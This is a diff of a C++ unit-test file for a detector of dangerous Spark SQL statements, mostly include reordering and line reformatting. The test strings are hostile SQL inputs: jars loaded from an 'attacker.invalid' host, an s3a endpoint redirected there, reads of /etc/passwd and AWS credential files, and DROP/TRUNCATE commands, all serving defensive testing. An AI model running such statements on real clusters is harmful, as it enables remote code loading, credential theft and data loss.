@@ -1,13 +1,13 @@
 // Tests of the SQLTransformer statement rules: realistic feature-engineering queries are clean,
 // and every rule fires on realistic attacks and their evasions (case, comments between
 // keywords, backquoted or qualified names, literal concatenation, escapes, IDENTIFIER()).
+#include "analyzers/sparkml/sql_rules.h"
+
 #include <gtest/gtest.h>
 
 #include <algorithm>
 #include <string>
 #include <vector>
-
-#include "analyzers/sparkml/sql_rules.h"
 
 namespace mg::sparksql {
 namespace {
@@ -15,8 +15,8 @@ namespace {
 std::string Describe(const std::vector<SqlIssue>& issues) {
   std::string out;
   for (const SqlIssue& issue : issues) {
-    out += std::string(SqlIssueKindName(issue.kind)) + " @" + std::to_string(issue.offset) +
-           ": " + issue.message + "\n";
+    out += std::string(SqlIssueKindName(issue.kind)) + " @" + std::to_string(issue.offset) + ": " +
+           issue.message + "\n";
   }
   return out;
 }
@@ -139,11 +139,12 @@ TEST(SparkSqlRules, CodeLoadingCommandsAreCritical) {
   ExpectIssue("ADD JAR 'https://attacker.invalid/x.jar'", SqlIssueKind::kCodeLoading,
               Severity::kCritical, "https://attacker.invalid/x.jar");
   ExpectIssue("add /* */ archive '/tmp/a.zip'", SqlIssueKind::kCodeLoading, Severity::kCritical);
-  ExpectIssue("CREATE OR REPLACE TEMPORARY FUNCTION f AS 'org.example.Evil' USING JAR "
-              "'hdfs://attacker.invalid/e.jar'",
-              SqlIssueKind::kCodeLoading, Severity::kCritical, "org.example.Evil");
-  ExpectIssue("CREATE FUNCTION area(x DOUBLE) RETURNS DOUBLE RETURN x * x",
-              SqlIssueKind::kCommand, Severity::kHigh, "CREATE FUNCTION");
+  ExpectIssue(
+      "CREATE OR REPLACE TEMPORARY FUNCTION f AS 'org.example.Evil' USING JAR "
+      "'hdfs://attacker.invalid/e.jar'",
+      SqlIssueKind::kCodeLoading, Severity::kCritical, "org.example.Evil");
+  ExpectIssue("CREATE FUNCTION area(x DOUBLE) RETURNS DOUBLE RETURN x * x", SqlIssueKind::kCommand,
+              Severity::kHigh, "CREATE FUNCTION");
 }
 
 TEST(SparkSqlRules, DynamicSqlIsCritical) {
@@ -166,23 +167,22 @@ TEST(SparkSqlRules, InsertDirectoryIsCritical) {
 TEST(SparkSqlRules, CommandsAreReported) {
   ExpectIssue("DROP TABLE IF EXISTS prod.customers", SqlIssueKind::kCommand, Severity::kHigh,
               "DROP");
-  ExpectIssue("insert into audit select * from __THIS__", SqlIssueKind::kCommand,
-              Severity::kHigh, "INSERT");
+  ExpectIssue("insert into audit select * from __THIS__", SqlIssueKind::kCommand, Severity::kHigh,
+              "INSERT");
   ExpectIssue("CREATE TABLE t USING parquet LOCATION '/data' AS SELECT * FROM __THIS__",
               SqlIssueKind::kCommand, Severity::kHigh);
   ExpectIssue("TRUNCATE TABLE sales", SqlIssueKind::kCommand, Severity::kHigh);
   ExpectIssue("MERGE INTO t USING __THIS__ s ON t.id = s.id WHEN MATCHED THEN DELETE",
               SqlIssueKind::kCommand, Severity::kHigh);
-  ExpectIssue("CACHE TABLE c AS SELECT * FROM __THIS__", SqlIssueKind::kCommand,
-              Severity::kMedium);
+  ExpectIssue("CACHE TABLE c AS SELECT * FROM __THIS__", SqlIssueKind::kCommand, Severity::kMedium);
   ExpectIssue("USE other_db", SqlIssueKind::kCommand, Severity::kMedium);
   ExpectIssue("RESET", SqlIssueKind::kCommand, Severity::kMedium);
   ExpectIssue("SHOW TABLES", SqlIssueKind::kNotQuery, Severity::kMedium, "SHOW");
 }
 
 TEST(SparkSqlRules, SetConfigurationIsHigh) {
-  ExpectIssue("SET spark.hadoop.fs.s3a.endpoint=http://attacker.invalid",
-              SqlIssueKind::kSetConfig, Severity::kHigh, "fs.s3a.endpoint");
+  ExpectIssue("SET spark.hadoop.fs.s3a.endpoint=http://attacker.invalid", SqlIssueKind::kSetConfig,
+              Severity::kHigh, "fs.s3a.endpoint");
   ExpectIssue("set `spark.sql.runSQLOnFiles` = true", SqlIssueKind::kSetConfig, Severity::kHigh);
 }
 
@@ -200,8 +200,8 @@ TEST(SparkSqlRules, FilePathRelationsAreHigh) {
 TEST(SparkSqlRules, CredentialPathsAreCritical) {
   ExpectIssue("SELECT * FROM text.`/etc/passwd`", SqlIssueKind::kCredentialPath,
               Severity::kCritical, "/etc/passwd");
-  ExpectIssue("SELECT * FROM text.`file:///root/.aws/credentials`",
-              SqlIssueKind::kCredentialPath, Severity::kCritical);
+  ExpectIssue("SELECT * FROM text.`file:///root/.aws/credentials`", SqlIssueKind::kCredentialPath,
+              Severity::kCritical);
   ExpectIssue("SELECT * FROM csv.`ftp://user:pw@attacker.invalid/x.csv`",
               SqlIssueKind::kCredentialPath, Severity::kCritical);
 }
@@ -215,8 +215,8 @@ TEST(SparkSqlRules, OtherTablesAreHigh) {
               Severity::kHigh, "accounts");
   ExpectIssue("SELECT * FROM (__THIS__ JOIN payroll USING (id))", SqlIssueKind::kOtherTable,
               Severity::kHigh, "payroll");
-  ExpectIssue("SELECT * FROM IDENTIFIER('cat.db.tbl')", SqlIssueKind::kOtherTable,
-              Severity::kHigh, "cat.db.tbl");
+  ExpectIssue("SELECT * FROM IDENTIFIER('cat.db.tbl')", SqlIssueKind::kOtherTable, Severity::kHigh,
+              "cat.db.tbl");
   ExpectIssue("SELECT * FROM __THIS__ UNION ALL TABLE staging.events", SqlIssueKind::kOtherTable,
               Severity::kHigh, "staging.events");
   ExpectIssue("TABLE users", SqlIssueKind::kOtherTable, Severity::kHigh, "users");
@@ -231,15 +231,14 @@ TEST(SparkSqlRules, MultipleStatementsAreHigh) {
 }
 
 TEST(SparkSqlRules, UnknownFunctionsAreMedium) {
-  ExpectIssue("SELECT my_udf(x) FROM __THIS__", SqlIssueKind::kUnknownFunction,
-              Severity::kMedium, "my_udf");
-  ExpectIssue("SELECT db.score(x) FROM __THIS__", SqlIssueKind::kUnknownFunction,
-              Severity::kMedium, "db.score");
+  ExpectIssue("SELECT my_udf(x) FROM __THIS__", SqlIssueKind::kUnknownFunction, Severity::kMedium,
+              "my_udf");
+  ExpectIssue("SELECT db.score(x) FROM __THIS__", SqlIssueKind::kUnknownFunction, Severity::kMedium,
+              "db.score");
   std::vector<SqlIssue> issues = AnalyzeSqlStatement("SELECT f(a), F(b), f(c) FROM __THIS__");
-  EXPECT_EQ(std::count_if(issues.begin(), issues.end(),
-                          [](const SqlIssue& issue) {
-                            return issue.kind == SqlIssueKind::kUnknownFunction;
-                          }),
+  EXPECT_EQ(std::count_if(
+                issues.begin(), issues.end(),
+                [](const SqlIssue& issue) { return issue.kind == SqlIssueKind::kUnknownFunction; }),
             1)
       << Describe(issues);
 }
